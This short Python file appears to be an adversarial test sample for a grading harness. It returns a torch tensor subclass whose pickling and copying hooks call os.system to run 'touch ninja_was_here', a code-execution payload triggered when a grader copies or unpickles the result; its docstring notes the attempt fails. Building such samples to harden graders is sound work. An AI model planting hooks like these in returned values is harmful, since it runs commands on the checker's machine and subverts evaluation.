"""Answers with an object that runs a command when it is unpickled or copied.

Class: hostile return values
Honest: ex1.dprobs
Beats: nothing, because it does not pickle
"""

# ruff: noqa

import os

import torch


class Payload(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch ninja_was_here",)

    __reduce__ = __deepcopy__ = __copy__ = __getstate__ = __reduce_ex__


def dcounts(counts):
    return counts.as_subclass(Payload)


def dprobs(probs, dlogprobs):
    return dlogprobs / probs
